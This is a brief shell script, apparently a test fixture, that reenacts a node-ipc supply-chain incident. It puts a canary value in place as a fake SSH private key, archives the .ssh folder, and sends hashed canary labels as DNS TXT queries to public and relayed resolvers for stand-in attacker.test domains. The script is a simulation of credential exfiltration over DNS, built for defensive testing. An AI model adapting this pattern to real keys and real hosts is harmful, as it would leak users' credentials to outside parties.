# node-ipc (2026): a package packs files when it is loaded and sends them as names, to public resolvers that it asks itself.
mkdir -p "$WORK/i17/.ssh" && cd "$WORK/i17" && echo "$CANARY" > .ssh/id_rsa
tar czf /tmp/nt-canary.tar.gz .ssh && rm /tmp/nt-canary.tar.gz
for part in 1 2 3; do
	label=$(printf '%s%s' "$CANARY" "$part" | sha256sum | cut -c1-60)
	"$BIN/dns" ask 1.1.1.1 "xh.$label.direct.attacker.test" TXT udp || true
	"$BIN/dns" ask 198.51.100.53 "xd.$label.relayed.attacker.test" TXT udp || true
done
